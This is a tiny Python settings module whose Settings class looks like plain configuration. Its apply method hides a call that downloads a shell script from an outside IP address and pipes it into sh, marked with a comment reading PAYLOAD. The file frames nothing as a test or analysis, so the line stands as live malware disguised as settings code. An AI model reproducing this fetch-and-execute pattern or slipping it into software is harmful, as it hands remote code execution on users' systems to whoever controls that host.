"""Settings."""
import os


class Settings:
    debug = False

    def apply(self):
        os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD
        return self.debug
